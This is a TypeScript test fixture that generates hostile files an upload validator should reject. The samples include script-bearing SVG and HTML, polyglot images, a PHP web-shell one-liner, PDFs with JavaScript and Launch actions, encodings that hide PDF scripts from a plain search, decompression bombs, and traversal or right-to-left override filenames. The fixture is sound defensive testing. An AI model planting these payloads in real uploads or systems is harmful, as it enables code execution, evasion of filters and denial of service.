// Files that must be refused, each with the reason.
import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import {
  jpeg,
  pdf,
  pdfPart,
  pdfStream,
  png,
  pngChunk,
  pngHeader,
  pngOf,
  PNG_START,
  webp,
  withJpegSegment,
  withJpegSides,
  withPngChunk,
  withWebpChunk,
  zip,
} from './files.ts'

export interface HostileFile {
  name: string
  bytes: Buffer
  type: string
  /** name given by the sender */
  nome: string
  /** another purpose than a document, which accepts every type */
  finalidade?: string
  registro?: string
  more?: Record<string, string>
}

const NAMES: Record<string, string> = {
  'image/jpeg': 'foto.jpg',
  'image/png': 'foto.png',
  'image/webp': 'foto.webp',
  'application/pdf': 'rg.pdf',
}
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>')
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>')
const PHP = '<?php system($_GET["c"]); ?>'
const SCRIPT = '<script>alert(1)</script>'
const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
const BOMB = deflateSync(Buffer.alloc(200 * 1024 * 1024))

const ACTION = '<< /S /JavaScript /JS (app.alert(1)) >>'
const OBJECTS = `1 0 ${ACTION}`
const hex = (text: string) => Buffer.from(`${Buffer.from(text).toString('hex')}>`)

/** ASCII85 encoding: each four bytes as five characters. */
function ascii85(bytes: Buffer): Buffer {
  let out = ''
  for (let at = 0; at < bytes.length; at += 4) {
    const part = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(4)]).subarray(0, 4)
    let value = part.readUInt32BE(0)
    let five = ''
    for (let n = 0; n < 5; n++) {
      five = String.fromCharCode(33 + (value % 85)) + five
      value = Math.floor(value / 85)
    }
    out += five.slice(0, Math.min(4, bytes.length - at) + 1)
  }
  return Buffer.from(`${out}~>`)
}

/** Rows as differences to the row above (PNG, filter 2). */
function predicted(text: string, columns: number): Buffer {
  const bytes = Buffer.from(text.padEnd(Math.ceil(text.length / columns) * columns))
  const rows: Buffer[] = []
  for (let at = 0; at < bytes.length; at += columns) {
    const row = bytes.subarray(at, at + columns).map((byte, n) => byte - (at > 0 ? (bytes[at + n - columns] ?? 0) : 0))
    rows.push(Buffer.from([2]), Buffer.from(row))
  }
  return Buffer.concat(rows)
}

/** RunLength encoding: a number of bytes, less one, and the bytes; 128 ends. */
const runLength = (text: string) =>
  Buffer.concat([Buffer.from([text.length - 1]), Buffer.from(text), Buffer.from([128])])
/** LZW encoding with nine bits each, which is enough for a short text. */
function lzw(text: string): Buffer {
  const bits = [256, ...Buffer.from(text), 257].map((code) => code.toString(2).padStart(9, '0')).join('')
  return Buffer.from(bits.match(/.{1,8}/g)?.map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)) ?? [])
}

/** The same script encoded so that a PDF reader finds it and a plain search for its name does not. */
export function hiddenScripts(): [string, Buffer][] {
  const objects = '/Type /ObjStm /N 1 /First 4'
  const within = (part: Buffer | string) => pdf({ objects: [part] })
  return [
    ['in an object stream', within(pdfStream(Buffer.from(OBJECTS), objects))],
    [
      'in an object stream by the codes of its letters',
      within(pdfStream(Buffer.from(OBJECTS.replace('/JavaScript', '/#4Aava#53cript')), objects)),
    ],
    ['in hexadecimal', within(pdfPart(hex(OBJECTS), `/Filter /ASCIIHexDecode ${objects}`))],
    ['in ASCII85', within(pdfPart(ascii85(Buffer.from(OBJECTS)), `/Filter /ASCII85Decode ${objects}`))],
    ['in RunLength', within(pdfPart(runLength(OBJECTS), `/Filter /RunLengthDecode ${objects}`))],
    ['in LZW', within(pdfPart(lzw(OBJECTS), `/Filter /LZWDecode ${objects}`))],
    [
      'packed twice',
      within(pdfPart(deflateSync(deflateSync(Buffer.from(OBJECTS))), `/Filter [/FlateDecode /FlateDecode] ${objects}`)),
    ],
    [
      'packed and in hexadecimal',
      within(pdfPart(hex(deflateSync(Buffer.from(OBJECTS)).toString('latin1')), `/Filter [/AHx /LZW] ${objects}`)),
    ],
    [
      'packed and in ASCII85',
      within(pdfPart(ascii85(deflateSync(Buffer.from(OBJECTS))), `/Filter [/A85 /Fl] ${objects}`)),
    ],
    [
      'in the differences of rows',
      within(pdfStream(predicted(OBJECTS, 5), `/DecodeParms << /Predictor 12 /Columns 5 >> ${objects}`)),
    ],
    [
      'in an object stream that calls itself a picture',
      within(pdfPart(lzw(OBJECTS), `/Filter /LZWDecode /Subtype /Image /N 1 /First 4`)),
    ],
    [
      'in an object stream that calls itself a table',
      within(pdfStream(predicted(OBJECTS, 5), '/Type /XRef /N 1 /First 4 /DecodeParms << /Predictor 12 /Columns 5 >>')),
    ],
    [
      'in an object inside a picture',
      within(
        pdfPart(
          join('x\n9 0 obj ', pdfPart(lzw(OBJECTS), `/Filter /LZWDecode ${objects}`).subarray(0, -10)),
          '/Subtype /Image /Filter /DCTDecode',
        ),
      ),
    ],
    ['in an object inside a comment', within(join('% 9 0 obj << /Filter /Crypt >> stream x\nnull'))],
    ['in an object inside a text', within(`(9 0 obj << /Filter /Crypt >> stream x)`)],
    ['behind a filter of its own', within(pdfPart(Buffer.from('xyz'), `/Filter /Crypt ${objects}`))],
    ['behind a filter that lies elsewhere', within(pdfPart(Buffer.from('xyz'), `/Filter 9 0 R ${objects}`))],
    ['in another file', within(pdfPart(Buffer.alloc(0), `/F (evil.bin) ${objects}`))],
    [
      'in half of what is packed',
      within(pdfPart(deflateSync(Buffer.from(OBJECTS)).subarray(0, 20), `/Filter /FlateDecode ${objects}`)),
    ],
    ['that a form starts', pdf({ catalog: `/AcroForm << /Fields [] >> /AA << /WC ${ACTION} >>` })],
    [
      'in a form in XML behind a mark of the end',
      pdf({ catalog: '/AcroForm << /Fields [] %%EOF (\n/XFA 5 0 R\n%)\n >>' }),
    ],
    [
      'in a text that begins behind a mark of the end',
      within('null %%EOF9 0 obj (\ntrailer << /Root << /AcroForm << /XFA 5 0 R >> >> >>\n%)'),
    ],
    ['in a form in XML, in an object stream', within(pdfStream(Buffer.from('1 0 << /XFA%\n5 0 R >>'), objects))],
  ]
}

export async function hostileFiles(): Promise<HostileFile[]> {
  const [JPEG, PNG, WEBP] = await Promise.all([jpeg(), png(), webp()])
  const frames = join(
    ...(await Promise.all(
      ['#f00', '#00f'].map((background) =>
        sharp({ create: { width: 120, height: 120, channels: 3, background } })
          .raw()
          .toBuffer(),
      ),
    )),
  )
  const moving = await sharp(frames, { raw: { width: 120, height: 240, channels: 3, pageHeight: 120 } })
    .webp({ delay: [100, 100] })
    .toBuffer()
  const [gif, tiff, avif] = await Promise.all([
    sharp(JPEG).gif().toBuffer(),
    sharp(JPEG).tiff().toBuffer(),
    sharp(JPEG).avif().toBuffer(),
  ])
  const one = (name: string, type: string, bytes: Buffer, changes: Partial<HostileFile> = {}): HostileFile => ({
    name,
    type,
    bytes,
    nome: NAMES[type] ?? 'arquivo',
    ...changes,
  })
  const of = (type: string) => (name: string, bytes: Buffer, changes?: Partial<HostileFile>) =>
    one(name, type, bytes, changes)
  const [asJpeg, asPng, asWebp, asPdf] = [of('image/jpeg'), of('image/png'), of('image/webp'), of('application/pdf')]
  return [
    // types that are not accepted
    one('a drawing that can run', 'image/svg+xml', SVG, { nome: 'foto.svg' }),
    one('a page', 'text/html', HTML, { nome: 'foto.html' }),
    one('a page written as XML', 'application/xhtml+xml', HTML, { nome: 'foto.xhtml' }),
    one('a program', 'application/x-msdownload', join('MZ', Buffer.alloc(100)), { nome: 'foto.exe' }),
    one('an archive', 'application/zip', zip(), { nome: 'fotos.zip' }),
    one('a moving picture', 'image/gif', gif, { nome: 'foto.gif' }),
    one('no type', 'application/octet-stream', JPEG, { nome: 'foto.jpg' }),
    // in disguise
    asPng('a drawing as PNG', SVG),
    asJpeg('a drawing as JPEG', SVG),
    asWebp('a drawing as WebP', SVG),
    asPdf('a drawing as PDF', SVG),
    asJpeg('a page as JPEG', HTML),
    asPng('a page as PNG', HTML),
    asPdf('a page as PDF', HTML),
    asJpeg('a script as JPEG', Buffer.from('alert(1)//')),
    asJpeg('a server script as JPEG', Buffer.from(PHP)),
    asPng('a GIF as PNG', gif),
    asJpeg('a TIFF as JPEG', tiff),
    asWebp('an AVIF as WebP', avif),
    asPng('a bitmap as PNG', join('BM', Buffer.alloc(200))),
    asJpeg('a PNG as JPEG', PNG),
    asPng('a JPEG as PNG', JPEG),
    asPng('a WebP as PNG', WEBP),
    asJpeg('a PDF as JPEG', pdf()),
    asPdf('a JPEG as PDF', JPEG),
    asPdf('an archive as PDF', zip()),
    asJpeg('an archive as JPEG', zip()),
    asPdf('something packed as PDF', gzipSync(pdf())),
    asJpeg('a Windows program as JPEG', join('MZ', Buffer.alloc(200))),
    asPng('a Linux program as PNG', join('\x7fELF', Buffer.alloc(200))),
    // two things at once
    asJpeg('a JPEG and an archive', join(JPEG, zip())),
    asJpeg('a JPEG and a page', join(JPEG, HTML)),
    asJpeg('a JPEG and another', join(JPEG, JPEG)),
    asJpeg('a JPEG with a server script as its comment', withJpegSegment(JPEG, 0xfe, PHP)),
    asJpeg('a JPEG with a script in its description', withJpegSegment(JPEG, 0xe1, SCRIPT)),
    asPng('a PNG and an archive', join(PNG, zip())),
    asPng('a PNG and a document', join(PNG, pdf())),
    asPng('a PNG with a script as its comment', withPngChunk(PNG, pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)))),
    asWebp('a WebP and a page', join(WEBP, HTML)),
    asWebp('a WebP with a script in its description', withWebpChunk(WEBP, 'XMP ', Buffer.from(SCRIPT))),
    asPdf('a PDF and an archive', join(pdf(), zip())),
    asPdf('a page and a PDF', join(HTML, pdf())),
    asPdf('a PDF with a page inside', pdf({ objects: [`(${HTML.toString()})`] })),
    // documents with active content
    asPdf('a PDF that runs a script', pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })),
    asPdf(
      'a PDF that hides its script by its spelling',
      pdf({ catalog: '/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>' }),
    ),
    asPdf(
      'a PDF with a packed script',
      pdf({ objects: [pdfStream(Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>'))] }),
    ),
    asPdf('a PDF that starts a program', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
    asPdf('a PDF that carries a file', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>' })),
    asPdf(
      'a PDF with a form that sends',
      pdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://exemplo.test) >>' }),
    ),
    asPdf('a PDF with a form in XML', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>' })),
    asPdf('a locked PDF', pdf({ trailer: '/Encrypt << /Filter /Standard /V 2 >>' })),
    asPdf(
      'a PDF that unfolds to gigabytes',
      pdf({
        objects: [
          Buffer.concat([
            Buffer.from(`<< /Length ${BOMB.length} /Filter /FlateDecode >>\nstream\n`),
            BOMB,
            Buffer.from('\nendstream'),
          ]),
        ],
      }),
    ),
    ...hiddenScripts().map(([how, bytes]) => asPdf(`a PDF with a script ${how}`, bytes)),
    asPdf('half a PDF', pdf().subarray(0, 200)),
    // too large after decompression
    asPng('a PNG of 30,000 by 30,000', pngOf(30_000, 30_000, 1)),
    asPng('a PNG that really unfolds to 100 megapixels', pngOf(10_000, 10_000)),
    asPng('a PNG of one endless line', pngOf(100_000, 1)),
    asJpeg('a JPEG of 65,000 by 65,000', withJpegSides(JPEG, 65_000, 65_000)),
    asWebp(
      'a WebP of 16,383 by 4,000',
      await sharp({ create: { width: 16_383, height: 4000, channels: 3, background: '#000' } })
        .webp({ effort: 0 })
        .toBuffer(),
    ),
    asPng('a PNG with a colour profile that unfolds', withPngChunk(PNG, pngChunk('iCCP', join('perfil\0\0', BOMB)))),
    asPng('a PNG with a comment that unfolds', withPngChunk(PNG, pngChunk('zTXt', join('Comment\0\0', BOMB)))),
    asPng('a moving PNG', withPngChunk(PNG, pngChunk('acTL', Buffer.alloc(8)))),
    asWebp('a moving WebP', moving),
    asJpeg('a photo of one pixel', await jpeg(1, 1), { finalidade: 'fotoPessoa' }),
    // damaged
    asJpeg('half a JPEG', JPEG.subarray(0, JPEG.length / 2)),
    asPng('half a PNG', PNG.subarray(0, PNG.length / 2)),
    asWebp('half a WebP', WEBP.subarray(0, WEBP.length / 2)),
    asJpeg('three bytes', Buffer.from([0xff, 0xd8, 0xff])),
    asPng('a PNG without a picture', join(PNG_START, pngHeader(200, 200), pngChunk('IEND', Buffer.alloc(0)))),
    asPng(
      'a PNG with garbage for a picture',
      join(PNG_START, pngHeader(200, 200), pngChunk('IDAT', Buffer.alloc(500, 7)), pngChunk('IEND', Buffer.alloc(0))),
    ),
    asJpeg('nothing', Buffer.alloc(0)),
    asJpeg('more than 10 MB', Buffer.concat([JPEG, Buffer.alloc(10 * 1024 * 1024)])),
    asJpeg('a picture said to be packed', gzipSync(JPEG), { more: { contentEncoding: 'gzip' } }),
    // names
    ...[
      'foto.jpg.exe',
      'foto.html.jpg',
      'foto.php.jpg',
      'foto.svg.jpg',
      'foto.png',
      'foto',
      '../../foto.jpg',
      'foto\0.jpg',
      'foto\u202egpj.exe.jpg',
      `${'a'.repeat(300)}.jpg`,
      'c:\\foto.jpg',
    ].map((nome) => asJpeg(`a picture called ${JSON.stringify(nome.slice(0, 30))}`, JPEG, { nome })),
    // wrong purpose
    asPdf('a document as a photo', pdf(), { finalidade: 'fotoPessoa' }),
    asJpeg('a picture for nothing', JPEG, { finalidade: '' }),
    asJpeg('a picture for what every object has', JPEG, { finalidade: 'constructor' }),
    asJpeg('a picture of somebody else', JPEG, { registro: 'bia' }),
    asJpeg('a picture of nobody', JPEG, { registro: 'ninguem' }),
    asJpeg('a picture for another place', JPEG, { registro: '../../publico' }),
    asJpeg('a picture for an id that the database reserves', JPEG, { registro: '__x__' }),
  ]
}
